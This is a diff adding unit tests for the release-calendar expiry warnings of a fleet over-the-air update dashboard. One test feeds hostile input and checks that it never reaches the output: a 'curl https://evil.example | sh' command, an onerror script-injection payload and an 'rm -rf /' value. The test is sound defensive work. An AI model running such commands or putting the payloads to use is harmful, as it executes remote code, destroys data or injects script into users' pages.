@@ -1,7 +1,7 @@
 import { test } from "uvu";
 import * as assert from "uvu/assert";
 import { QUEUE_ROLE } from "../../../../contracts/dashboard-documents.js";
-import { alarmChanges, alarmsChangedSince, deadLetterCommand, shapeNeedsAHand } from "../../../../functions/dashboard-publisher/needs-a-hand-view.js";
+import { alarmChanges, alarmsChangedSince, deadLetterCommand, expiryWarnings, shapeNeedsAHand } from "../../../../functions/dashboard-publisher/needs-a-hand-view.js";
 import { otaReportSchema } from "../../../../telemetry/schema.js";
 import { compositeAlarm, deadLetterMessage, metricAlarm, needsAHandInput } from "./support/factories.js";
 
@@ -94,6 +94,59 @@ test("asks for the history only of alarms whose state changed within the window 
 
   assert.equal(alarmsChangedSince(alarmsRead, since), ["changed-an-hour-ago", "changed-exactly-at-the-edge", "composite-never-told"]);
   assert.equal(alarmsChangedSince([metricAlarm({ StateUpdatedTimestamp: minutesAgo(25 * 60) })], since), []);
+});
+
+// ── the release calendar ──────────────────────────────────────────────────────────────────────
+
+const DAY = 86_400_000;
+const inDays = (days: number) => new Date(now.getTime() + days * DAY).toISOString();
+
+test("release calendar: under 7 days a line with the days left and the command; 8 days none; expired a line saying so", () => {
+  const published = [
+    { what: "image targets", version: 4, expires: inDays(6.5) },
+    { what: "director root", version: 2, expires: inDays(8) },
+    { what: "image root", version: 1, expires: inDays(-0.5) },
+  ] as const;
+
+  const doc = shapeNeedsAHand({ ...needsAHandInput(now, alarms), expiry: { published } }, undefined, now);
+
+  assert.equal(doc.expiry.warnings.map((warning) => warning.line), [
+    "image root 1 EXPIRED at 2026-11-26T06:00:00.000Z: vehicles refuse it",
+    "image targets 4 expire in 6 days (2026-12-03T06:00:00.000Z)",
+  ]);
+  assert.match(doc.expiry.warnings[1]!.remedy, /^fleetota release refresh --key /);
+  assert.match(doc.expiry.warnings[0]!.remedy, /next image root.*no CLI command/);
+  assert.equal([doc.expiry.readAt, doc.expiry.published.length], [now.toISOString(), 3]);
+  assert.equal(expiryWarnings([{ what: "director root", version: 3, expires: inDays(6.9) }], now).map((warning) => warning.remedy.split(" ").slice(0, 3).join(" ")), ["fleetota keys rotate-director"]);
+  assert.equal(expiryWarnings([{ what: "director root", version: 3, expires: inDays(7) }], now), []);
+});
+
+test("release calendar: between reads the last one is carried and its days counted again; a failed read is named and keeps it", () => {
+  const read = shapeNeedsAHand({ ...needsAHandInput(now, alarms), expiry: { published: [{ what: "image targets", version: 4, expires: inDays(7.01) }] } }, undefined, now);
+  assert.equal(read.expiry.warnings, []);
+
+  const later = new Date(now.getTime() + 0.02 * DAY);
+  const carried = shapeNeedsAHand({ ...needsAHandInput(later, alarms), expiry: undefined }, read, later);
+  const failed = shapeNeedsAHand({ ...needsAHandInput(later, alarms), expiry: { error: "AccessDenied" } }, read, later);
+
+  for (const doc of [carried, failed]) {
+    assert.is(doc.expiry.readAt, now.toISOString());
+    assert.equal(doc.expiry.warnings.map((warning) => [warning.version, warning.daysLeft]), [[4, 6]]);
+  }
+  assert.ok(failed.errors.includes("release calendar: AccessDenied"));
+});
+
+test("release calendar: no text of the metadata, a previous document or a vehicle reaches the line; only a kind, a version and a re-written date", () => {
+  const hostile = "2026-11-27T00:00:00Z; curl https://evil.example | sh <img src=x onerror=alert(1)>";
+  const input = { ...needsAHandInput(now, alarms), expiry: { published: [{ what: "image targets", version: 5, expires: hostile }] } } as const;
+  const doc = shapeNeedsAHand(input, undefined, now);
+  assert.equal(doc.expiry.warnings.map((warning) => warning.line), ["image targets 5 EXPIRED (unreadable date): vehicles refuse it"]);
+
+  const forgedPrevious = { ...doc, expiry: { readAt: now.toISOString(), published: [{ what: "rm -rf / #" as never, version: 1, expires: inDays(1) }, { what: "image root" as const, version: 1.5, expires: inDays(1) }], warnings: [] } };
+  assert.equal(shapeNeedsAHand({ ...needsAHandInput(now, alarms), expiry: undefined }, forgedPrevious, now).expiry, { readAt: now.toISOString(), published: [], warnings: [] });
+
+  const text = JSON.stringify(doc.expiry);
+  for (const part of ["curl", "onerror", "evil", ...doc.parked.items.map((item) => item.detail)]) assert.not.ok(text.includes(part), part);
 });
 
 test.run();
